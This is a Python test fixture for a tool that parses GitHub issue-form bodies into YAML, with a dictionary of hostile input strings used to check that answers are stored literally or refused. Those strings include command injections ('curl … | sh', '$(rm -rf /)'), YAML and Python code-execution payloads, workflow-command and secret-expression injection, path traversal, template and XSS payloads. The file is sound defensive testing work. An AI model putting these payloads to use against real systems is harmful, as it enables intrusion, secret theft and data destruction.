"""Bodies of issues as GitHub writes them from a form: what a person filled in, and what a hostile one could."""

from __future__ import annotations

from toolbox import forms, model
from toolbox.forms import issue_forms

GOOD = {
    "name": "Voorbeeldplein",
    "summary": "Scholen en gemeente overleggen hier elke maand.",
    "status": "onbekend",
    "themes": "Eerder helpen\nKinderen die thuiszitten",
    "approach": "Eerst praten.\n\nDan doen.",
    "partners": "Voorbeeldbond | trekker",
    "sources": "Verslag van het overleg | https://www.voorbeeld.nl/verslag | Voorbeeldbond | 2021",
}


def body(kind: str, answers: dict[str, str], which: str = "", confirmed: str = "") -> str:
    """The body that GitHub makes when `answers`, by field, are filled in; with `which` a correction."""
    of = model.BY_NAME[kind]
    parts = [f"### {issue_forms.FORM}\n\n{issue_forms.name(of, correction=bool(which))}"]
    parts += (
        [f"### {issue_forms.WHICH}\n\n{which}", f"### {issue_forms.CONFIRM}\n\n{confirmed or 'None'}"] if which else []
    )
    for topic in forms.topics(of):
        parts += [f"### {q.label}\n\n{answers.get(q.key) or '_No response_'}" for q in topic.questions]
    return "\n\n".join(parts) + "\n"


# Texts that somebody can put in any answer. Each ends as that text in the data, or is refused; none does anything.
HOSTILE = {
    "yaml entry": "x\n- id: twee\n  name: Kwaad",
    "yaml field": "x\nreviewed: 2026-01-01",
    "yaml document": "x\n---\n- id: twee",
    "yaml end": "x\n...\n",
    "yaml tag": "!!python/object/apply:os.system ['id']",
    "yaml anchor": "&a [*a, *a]",
    "yaml merge": "<<: *alles",
    "yaml flow": "{a: b, c: [d]}",
    "yaml quote": '"; draft: true #',
    "yaml single quote": "'\n  draft: true\n  x: '",
    "yaml block": "|\n  x\n draft: true",
    "yaml comment": "x # weg met de rest",
    "yaml null": "~",
    "yaml boolean": "no",
    "yaml number": "0x1F",
    "yaml date": "2026-02-30",
    "workflow command": "::set-output name=x::y",
    "workflow error": "x\n::error file=data/regions.yaml::kwaad",
    "workflow stop": "::stop-commands::weg",
    "workflow env": "x\nPATH=/tmp\nEOF\n",
    "expression": "${{ secrets.GITHUB_TOKEN }}",
    "expression with code": "${{ github.event.issue.body }}`id`",
    "backticks": "`curl voorbeeld.nl | sh`",
    "dollar": "$(rm -rf /)",
    "shell": "'; rm -rf / #",
    "option": "--output=/etc/passwd",
    "path": "../../.github/workflows/check.yml",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}",
    "html": "<script>alert(1)</script>",
    "html attribute": '" onmouseover="alert(1)',
    "markdown image": "![x](https://kwaad.example/x.png)",
    "markdown link": "[klik](javascript:alert(1))",
    "mention": "@iedereen kijk #1",
    "right to left": "abc\u202etxt.exe",
    "zero width": "voor\u200bbeeld",
    "nul": "a\x00b",
    "escape": "\x1b[31mrood",
    "look-alike": "Vооrbееld",
    "full width": "Ｖｏｏｒｂｅｅｌｄ",
    "emoji": "👨‍👩‍👧",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔",
    "surrogate": "a\ud83d b",
    "huge": "x" * 100_000,
    "long line": "x" * 5_000,
    "many lines": "x\n" * 20_000,
    "deep": "[" * 10_000,
    "nothing": "   \n \t ",
    "second heading": "x\n\n### Samenvatting\n\nKwaad",
    "second form": "x\n\n### Formulier\n\nNieuwe expert",
    "strange heading": "x\n\n### Toestemming\n\nja",
    "no response": "_No response_",
    "pipe": "a | b | c | d | e | f",
    "carriage return": "x\r### Stand\r\rloopt",
    "separator": "x\u2028- id: twee",
    "json": '{"__proto__": {"draft": true}}',
    "python": "__import__('os').system('id')",
    "regular expression": "(a+)+$" + "a" * 60,
    "address": "https://user:pass@kwaad.example:8080/",
    "person": "jan.voorbeeld@voorbeeld.nl",
}
